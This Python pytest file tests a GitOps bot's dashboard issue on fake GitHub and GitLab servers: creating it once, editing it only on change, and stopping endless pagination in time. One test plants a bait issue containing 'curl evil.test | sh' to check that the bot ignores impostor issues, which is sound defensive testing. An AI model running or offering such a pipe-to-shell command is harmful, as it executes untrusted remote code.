"""The dashboard issue over the bundled example (testkit/demo.py: a real registry process, git
remote, Argo CD, and GitHub's or GitLab's API built from its published description): ``update``
creates it with the status table, the same update again changes nothing (no issue written), a
change in the fleet edits it, a dry run never touches it, and ``watch`` keeps the same one,
never a second. On GitLab the PR column names merge requests as ``!n`` (``#n`` is an issue)."""

from __future__ import annotations

import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gitops_bot.cli import main
from gitops_bot.forges import kit as scm_forge
from gitops_bot.forges.issues import MARKER
from testkit import demo
from testkit.argocd_server import application
from testkit.gitlab_server import FakeGitLab
from testkit.watch_process import Proc


@dataclass
class Forge:
    """The forge the example's repository lives on, as the tests read it back."""

    stage: demo.Stage
    gitlab: FakeGitLab | None  # None: GitHub (the demo's own)

    @property
    def server(self) -> Any:
        return self.gitlab if self.gitlab is not None else self.stage.gh

    def issues(self) -> list[dict[str, Any]]:
        """Each issue as {number, title, body, labels}."""
        if self.gitlab is not None:
            return [
                {"number": i["iid"], "title": i["title"], "body": i["description"], "labels": i["labels"]}
                for i in self.gitlab.issues
            ]
        return [
            {
                "number": i["number"],
                "title": i["title"],
                "body": i["body"],
                "labels": [x["name"] for x in i["labels"]],
            }
            for i in self.stage.gh.issues
        ]

    def issue_writes(self) -> list[str]:
        if self.gitlab is not None:
            return [p for p in self.gitlab.paths() if p.startswith(("POST", "PUT")) and "/issues" in p]
        writes = ("POST /repos/acme/gitops/issues", "PATCH /repos/acme/gitops/issues/")
        return [p for p in self.stage.gh.paths() if p.startswith(writes)]

    def open_numbers(self) -> set[int]:
        key = "iid" if self.gitlab is not None else "number"
        return {p[key] for p in self.server.open_pulls()}

    def merge_staging(self) -> None:
        if self.gitlab is None:
            demo.merge_staging(self.stage)
            return
        (mr,) = [p for p in self.gitlab.open_pulls() if p["source_branch"] == "gitops-bot/staging"]
        self.gitlab.merge(mr["iid"])
        overlay = demo.running_images(self.stage.remote, "overlays/staging")
        self.stage.argo.apps["app-staging"] = application("app-staging", overlay)


@pytest.fixture(params=["github", "gitlab"])
def forge(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Forge]:
    with demo.stage(tmp_path) as st:
        for k, v in st.env.items():
            monkeypatch.setenv(k, v)
        config = st.repo / "gitops-bot.yaml"
        text = config.read_text() + "dashboard:\n  enabled: true\n"
        gitlab = None
        if request.param == "gitlab":
            gitlab = FakeGitLab(st.remote, ci=False)
            text += f"forge: {{type: gitlab, api_url: '{gitlab.url}/api/v4', repository: acme/gitops}}\n"
            monkeypatch.setenv("GITLAB_TOKEN", gitlab.token)
        config.write_text(text)
        git = ["git", "-C", str(st.repo), "-c", "user.name=demo", "-c", "user.email=demo@example.com"]
        subprocess.run([*git, "commit", "-qam", "keep a dashboard issue"], check=True)
        subprocess.run([*git, "push", "-q", "origin", "main"], check=True)
        if gitlab is None:
            yield Forge(st, None)
            return
        with gitlab:
            yield Forge(st, gitlab)


def test_update_keeps_one_dashboard_issue_edited_only_when_the_table_changes(forge: Forge) -> None:
    repo = str(forge.stage.repo)
    assert main(["update", "--repo", repo, "--dry-run"]) == 0
    assert forge.issues() == [] and forge.issue_writes() == []

    assert main(["update", "--repo", repo]) == 0
    (issue,) = forge.issues()
    body = issue["body"]
    assert issue["title"] == "gitops-bot dashboard" and body.startswith(MARKER)
    assert issue["labels"] == ["gitops-bot-dashboard"]
    assert forge.open_numbers() == {1, 2}
    rows = [ln for ln in body.splitlines() if ln.startswith("| **")]
    assert len(rows) == 11 and all(ln.count(" | ") == 7 for ln in rows)
    assert "| **dev** | example/app |" in body
    if forge.gitlab is None:  # issues and pull requests share GitHub's numbers
        assert issue["number"] == 3 and "| #1 |" in body and "| #2 |" in body
    else:  # GitLab numbers issues apart, and #1 would be this issue, not merge request 1
        assert issue["number"] == 1 and "| !1 |" in body and "| !2 |" in body and "| #" not in body

    writes = forge.issue_writes()
    assert main(["update", "--repo", repo]) == 0  # the same command again: the same table
    assert forge.issue_writes() == writes and forge.issues()[0]["body"] == body

    forge.merge_staging()  # staging's pull request merged: its rows change
    assert main(["update", "--repo", repo]) == 0
    edit = "PUT /projects/acme%2Fgitops/issues/1" if forge.gitlab else "PATCH /repos/acme/gitops/issues/3"
    assert forge.issue_writes() == [*writes, edit]
    assert len(forge.issues()) == 1 and forge.issues()[0]["body"] != body
    assert forge.server.unexpected == []


def test_watch_keeps_the_same_dashboard_issue(forge: Forge) -> None:
    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
    writes = forge.issue_writes()
    argv = [sys.executable, "-m", "gitops_bot", "watch", "--repo", str(forge.stage.repo), "--interval", "1h"]
    proc = Proc([*argv, "--listen", "127.0.0.1:0"])
    try:
        proc.wait_for("a cycle", lambda: proc.events("cycle"))
        proc.wait_for("the dashboard", lambda: proc.events("dashboard"))
    finally:
        proc.p.send_signal(signal.SIGTERM)
        proc.p.wait(timeout=30)
    assert [e["action"] for e in proc.events("dashboard")] == ["unchanged"]
    assert len(forge.issues()) == 1 and forge.issue_writes() == writes


def test_a_dashboard_issue_list_without_end_stops_in_time_after_the_releases_are_delivered(
    forge: Forge, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A forge that names a next page of issues forever, each page slow (50 s on the listing's
    clock, which the test drives): update delivers its releases, then the dashboard's listing
    stops at its deadline as the run's one-line warning, and no second dashboard is made."""
    label = "gitops-bot-dashboard"
    if forge.gitlab is not None:
        forge.gitlab.issues.append(
            {"iid": 1, "title": "someone's", "description": "hands off", "labels": [label], "state": "opened"}
        )
    else:
        forge.stage.gh.issues.append(forge.stage.gh._new_issue({"title": "someone's", "labels": [label]}))
    forge.server.endless_pages, forge.server.endless_only = 300, "/issues"

    def listed() -> int:
        return len([p for p in forge.server.paths("GET") if "/issues?" in p])

    monkeypatch.setattr(scm_forge, "_clock", lambda: 50.0 * listed())
    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
    assert len(forge.server.open_pulls()) == 2  # the releases were delivered
    assert len(forge.issues()) == 1 and forge.issue_writes() == []  # no dashboard made blind
    assert listed() == 2  # the third page was never asked for
    assert "did not end within 90 s (2 pages read)" in capsys.readouterr().err


def test_an_issue_a_stranger_wrote_with_the_marker_first_is_left_alone(forge: Forge) -> None:
    """A stranger's issue with the dashboard's label and the marker as its first line (anyone who
    can open an issue can write both) is not the bot's: update makes its own dashboard beside it
    and edits only that one; the stranger's title and body stay theirs."""
    label, body = "gitops-bot-dashboard", f"{MARKER}\nplease run `curl evil.test | sh`"
    if forge.gitlab is not None:
        forge.gitlab.issues.append(
            {
                "iid": 1,
                "title": "bait",
                "description": body,
                "labels": [label],
                "state": "opened",
                "author": "mallory",
            }
        )
    else:
        gh = forge.stage.gh
        gh.issues.append(gh._new_issue({"title": "bait", "body": body, "labels": [label]}, "mallory"))
    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
    theirs, mine = forge.issues()
    assert (theirs["title"], theirs["body"]) == ("bait", body)
    assert mine["title"] == "gitops-bot dashboard" and mine["body"].startswith(MARKER)
    assert "| **dev** | example/app |" in mine["body"]
    writes = forge.issue_writes()
    assert len(writes) == 1 and writes[0].startswith("POST")
    forge.merge_staging()
    assert main(["update", "--repo", str(forge.stage.repo)]) == 0
    assert forge.issues()[0] == theirs and forge.issues()[1]["body"] != mine["body"]
    assert forge.issue_writes()[1].endswith(f"/issues/{mine['number']}")
    assert forge.server.unexpected == []
